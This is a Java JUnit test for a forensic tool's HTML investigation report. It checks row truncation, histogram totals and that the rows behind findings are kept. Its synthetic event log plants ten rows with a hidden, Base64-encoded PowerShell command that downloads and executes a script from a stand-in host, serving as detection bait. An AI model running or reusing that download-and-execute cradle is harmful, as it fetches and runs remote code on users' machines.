package dev.spoor.acceptance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.BufferedWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HashSet;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;

/** More rows than a page can hold: all that a finding rests on are in it, the histogram counts every row, and it says how many are shown. */
class CutReportTest {
    private static final int SHOWN = 50_000;
    private static final int PLANTED = 10;

    @TempDir
    Path home;

    @Test
    void threeTimesWhatAPageHolds() throws Exception {
        cut(150_000);
    }

    @Test
    @EnabledIfSystemProperty(named = "spoor.soak", matches = "true", disabledReason = "5 M rows: with -Psoak")
    void fiveMillionRows() throws Exception {
        cut(5_000_000);
    }

    private void cut(int rows) throws Exception {
        Path file = home.resolve("report.html");
        Ran ran = Command.spoor(home, "investigate", evidence(rows), "-o", file)
                .run()
                .exits(0);
        System.out.println(rows + " rows: " + ran.cost() + ", report of " + (Files.size(file) >> 20) + " MiB");
        String report = Files.readString(file, StandardCharsets.UTF_8);
        JsonNode document = new ObjectMapper().readTree(island(report, "id=\"document\""));

        JsonNode timeline = document.at("/view/views")
                .valueStream()
                .filter(view -> view.path("kind").asText().equals("timeline"))
                .findFirst()
                .orElseThrow();
        assertEquals(SHOWN, timeline.path("shown").asInt());
        assertEquals(rows, timeline.path("total").asInt());
        assertEquals(
                rows,
                timeline.at("/histogram/series")
                        .valueStream()
                        .flatMap(series -> series.path("counts").valueStream())
                        .mapToLong(JsonNode::asLong)
                        .sum());

        Set<String> behind = new HashSet<>();
        document.path("findings")
                .forEach(finding -> finding.path("rows")
                        .forEach(row -> behind.add(
                                row.get(0).asLong() + ":" + row.get(1).asLong())));
        assertEquals(PLANTED, behind.size(), "rows behind findings");
        Set<String> kept = origins(report, timeline.at("/streams/0/table").asText());
        assertEquals(SHOWN, kept.size());
        assertTrue(kept.containsAll(behind), () -> "cut away: " + behind);
    }

    /** Two rows a second; ten of them are encoded PowerShell. */
    private Path evidence(int rows) throws Exception {
        String encoded = Base64.getEncoder()
                .encodeToString("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
                        .getBytes(StandardCharsets.UTF_16LE));
        Path file = home.resolve("events.csv");
        try (BufferedWriter out = Files.newBufferedWriter(file)) {
            out.write(
                    "TimeCreated,EventID,Computer,SubjectUserName,NewProcessName,CommandLine,ProcessId,NewProcessId\n");
            for (int i = 0; i < rows; i++) {
                boolean planted = i % (rows / PLANTED) == 77;
                out.write(java.time.Instant.ofEpochSecond(1_767_225_600L + i / 2) + ",4688,WS" + i % 200 + ",user"
                        + i % 300 + ",");
                out.write(
                        planted
                                ? "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                                : "C:\\Program Files\\p.exe");
                out.write(planted ? ",powershell.exe -w hidden -enc " + encoded : ",p.exe --job " + i);
                out.write(String.format(Locale.ROOT, ",0x%x,0x%x%n", i % 60_000, (i + 7) % 60_000));
            }
        }
        return file;
    }

    private static String island(String report, String attribute) {
        Matcher island = Pattern.compile(
                        "<script type=\"application/json\" " + attribute + ">(.*?)</script>", Pattern.DOTALL)
                .matcher(report);
        assertTrue(island.find(), attribute);
        return island.group(1);
    }

    /** The ids of a table's rows: its first column, each number told as what it is more than the one before. */
    private static Set<String> origins(String report, String table) throws Exception {
        Set<String> origins = new HashSet<>();
        Matcher island = Pattern.compile("<script type=\"application/json\" data-table=\"" + table + "\">([^<]*)<")
                .matcher(report);
        while (island.find()) {
            JsonNode column = new ObjectMapper().readTree(island.group(1)).at("/cols/0");
            long ordinal = 0;
            for (int row = 0; row < column.path("i").size(); row++) {
                ordinal += column.path("o").get(row).asLong();
                origins.add(column.path("i").get(row).asLong() + ":" + ordinal);
            }
        }
        return origins;
    }
}
